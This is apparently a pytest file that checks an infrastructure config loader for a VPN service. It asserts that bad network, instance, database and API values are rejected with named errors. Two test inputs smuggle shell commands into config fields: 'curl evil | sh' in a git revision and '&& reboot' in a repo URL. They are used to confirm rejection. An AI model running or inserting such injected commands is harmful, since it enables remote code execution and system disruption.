"""infra/stackconfig.py on its own: the stack files load, and each bad value is named."""

from __future__ import annotations

import copy
import sys

import pytest

from iotistic_vpn.errors import InvalidValue
from tests.infra.stackreport import REPO, stack_config

sys.path.insert(0, str(REPO / "infra"))
import stackconfig


def _load(stack: str = "dev", **changes: object):
    raw = copy.deepcopy(stack_config(stack))
    for path, value in changes.items():
        section, _, key = path.partition("__")
        if key:
            if value is None:
                del raw[section][key]
            else:
                raw[section][key] = value
        else:
            raw[section] = value
    return stackconfig.load(raw, stack=stack, region="eu-central-1")


def test_dev_and_prod_load_and_carve_subnets_per_zone():
    dev, prod = _load("dev"), _load("prod")
    assert dev.network.public_subnets == ("10.40.0.0/20", "10.40.16.0/20", "10.40.32.0/20")
    assert dev.network.private_subnets == ("10.40.128.0/20", "10.40.144.0/20", "10.40.160.0/20")
    assert dev.gateways.architecture == "x86_64"
    assert dev.database.parameter_family == "postgres16"
    assert (dev.production, prod.production) == (False, True)
    assert (dev.api.enrollment, prod.api.enrollment) == (True, True)
    assert _load("prod", api__enrollment=False).api.enrollment is False
    assert prod.dns.vpn_hostname == "vpn.iotistic.example.com"
    assert _load("dev", gateways__instanceType="c7g.large").gateways.architecture == "arm64"


@pytest.mark.parametrize(
    ("changes", "message"),
    [
        (
            {"gateways__minSize": 5},
            "invalid gateways.minSize 5: must not exceed gateways.maxSize (3)",
        ),
        (
            {"gateways__desiredCapacity": 4},
            "invalid gateways.desiredCapacity 4: must lie between gateways.minSize (1) and "
            "gateways.maxSize (3)",
        ),
        (
            {"gateways__instanceType": "x9.large"},
            "invalid gateways.instanceType 'x9.large': unknown instance type family 'x9'; use one "
            "of t3, t3a, m5, m5a, m6i, m6a, m7i, m7a, c5, c5a, c5n, c6i, c6a, c6in, c7i, c7a, t4g, "
            "m6g, m7g, m8g, c6g, c6gn, c7g, c7gn, c8g",
        ),
        (
            {"gateways__instanceType": "large"},
            "invalid gateways.instanceType 'large': must look like FAMILY.SIZE, for example "
            "t3.small",
        ),
        (
            {"database__instanceClass": "db.z1d.large"},
            "invalid database.instanceClass 'db.z1d.large': unknown instance type family 'z1d'; "
            "use one of t3, t4g, m5, m6g, m6i, m7g, r5, r6g, r6i, r7g",
        ),
        (
            {"network__cidr": "100.96.0.0/16"},
            "invalid network.cidr '100.96.0.0/16': overlaps the VPN address pool 100.64.0.0/10; "
            "devices would be unreachable behind it: pick a range inside 10.0.0.0/8, "
            "172.16.0.0/12 or 192.168.0.0/16",
        ),
        (
            {"network__cidr": "100.0.0.0/8"},
            "invalid network.cidr '100.0.0.0/8': overlaps the VPN address pool 100.64.0.0/10; "
            "devices would be unreachable behind it: pick a range inside 10.0.0.0/8, "
            "172.16.0.0/12 or 192.168.0.0/16",
        ),
        (
            {"network__cidr": "8.8.0.0/16"},
            "invalid network.cidr '8.8.0.0/16': must lie inside a private (RFC 1918) range",
        ),
        (
            {"network__cidr": "10.40.0.1/16"},
            "invalid network.cidr '10.40.0.1/16': not an IPv4 CIDR with host bits clear",
        ),
        ({"network__cidr": "10.0.0.0/24"}, "invalid network.cidr '10.0.0.0/24': prefix must be"),
        ({"network__azCount": 1}, "invalid network.azCount 1: must be between 2 and 6"),
        (
            {"network__natGateways": 4},
            "invalid network.natGateways 4: cannot exceed azCount (3)",
        ),
        ({"gateways__maxSize": True}, "invalid gateways.maxSize True: must be a whole number"),
        ({"gateways__maxSize": "3"}, "invalid gateways.maxSize '3': must be a whole number"),
        (
            {"gateways__maxSize": None},
            "invalid gateways.maxSize None: missing; set it with `pulumi config set --path "
            "gateways.maxSize VALUE`",
        ),
        (
            {"gateways__maxSzie": 3},
            "invalid gateways.maxSzie 3: unknown key; gateways takes",
        ),
        (
            {"gateways__gitRevision": "main; curl evil | sh"},
            "invalid gateways.gitRevision 'main; curl evil | sh': must be a commit, tag or branch",
        ),
        (
            {"gateways__repoUrl": "https://example.com/x.git' && reboot '"},
            "invalid gateways.repoUrl \"https://example.com/x.git' && reboot '\": must be an",
        ),
        (
            {"database__engineVersion": 16.4},
            "invalid database.engineVersion 16.4: must be a quoted PostgreSQL version",
        ),
        (
            {"database__maxAllocatedStorageGb": 10},
            "invalid database.maxAllocatedStorageGb 10: must be between 20 and 65536",
        ),
        (
            {"database__allocatedStorageGb": 60},
            "invalid database.maxAllocatedStorageGb 50: must be at least "
            "database.allocatedStorageGb (60)",
        ),
        ({"api__cpu": 300}, "invalid api.cpu 300: Fargate takes 256, 512, 1024, 2048, 4096"),
        (
            {"api__memory": 4096},
            "invalid api.memory 4096: Fargate with api.cpu 256 takes one of 512, 1024, 2048 MiB",
        ),
        (
            {"api__image": "registry.example.com/api:latest"},
            "invalid api.image 'registry.example.com/api:latest': pin a version or digest",
        ),
        (
            {"api__image": "registry.example.com/api"},
            "invalid api.image 'registry.example.com/api': must name an image with a pinned tag",
        ),
        ({"api__logRetentionDays": 10}, "invalid api.logRetentionDays 10: CloudWatch takes 1, 3"),
        ({"api__enrollment": "yes"}, "invalid api.enrollment 'yes': must be true or false"),
        (
            {"api__enrollment": None},
            "invalid api.enrollment None: missing; set it with `pulumi config set --path "
            "api.enrollment VALUE`",
        ),
        ({"production": "no"}, "invalid production 'no': must be true or false"),
        ({"dns__zone": "localhost"}, "invalid dns.zone 'localhost': must be a DNS zone name"),
        ({"gateway": {}}, "invalid gateway {}: unknown key; use production, network, dns"),
    ],
)
def test_bad_value_fails_naming_the_key_and_the_value(changes, message):
    with pytest.raises(InvalidValue) as caught:
        _load("dev", **changes)
    assert str(caught.value).startswith(message)


@pytest.mark.parametrize(
    ("changes", "message"),
    [
        ({"database__multiAz": False}, "invalid database.multiAz False: a production stack needs"),
        (
            {"database__deletionProtection": False},
            "invalid database.deletionProtection False: a production stack needs true",
        ),
        (
            {"database__backupRetentionDays": 3},
            "invalid database.backupRetentionDays 3: a production stack needs at least 7",
        ),
        (
            {"network__natGateways": 1},
            "invalid network.natGateways 1: a production stack needs one per zone (3)",
        ),
        (
            {"gateways__minSize": 2},
            "invalid gateways.minSize 2: a production stack needs at least one gateway per zone",
        ),
    ],
)
def test_production_refuses_what_would_not_survive_a_zone(changes, message):
    with pytest.raises(InvalidValue) as caught:
        _load("prod", **changes)
    assert str(caught.value).startswith(message)


def test_zone_count_is_checked_against_the_region():
    settings = _load("dev", network__azCount=4)
    with pytest.raises(InvalidValue) as caught:
        stackconfig.check_zones(settings, ["eu-central-1a", "eu-central-1b", "eu-central-1c"])
    assert str(caught.value) == (
        "invalid network.azCount 4: region eu-central-1 has only 3 available zones "
        "(eu-central-1a, eu-central-1b, eu-central-1c)"
    )
    zones = stackconfig.check_zones(_load("dev"), ["eu-central-1c", "eu-central-1a", "x-1b"])
    assert zones == ("eu-central-1a", "eu-central-1c", "x-1b")


def test_stack_name_must_fit_resource_names():
    with pytest.raises(InvalidValue, match="invalid stack 'Production-Europe-West'"):
        stackconfig.load(stack_config("dev"), stack="Production-Europe-West", region="eu-west-1")


def test_the_longest_stack_name_still_fits_load_balancer_names():
    settings = stackconfig.load(stack_config("dev"), stack="a" * 15, region="eu-central-1")
    assert len(f"{settings.name_prefix}-api") == 32  # the ALB name limit, exactly
    with pytest.raises(InvalidValue, match="invalid stack 'aaaaaaaaaaaaaaaa'"):
        stackconfig.load(stack_config("dev"), stack="a" * 16, region="eu-central-1")
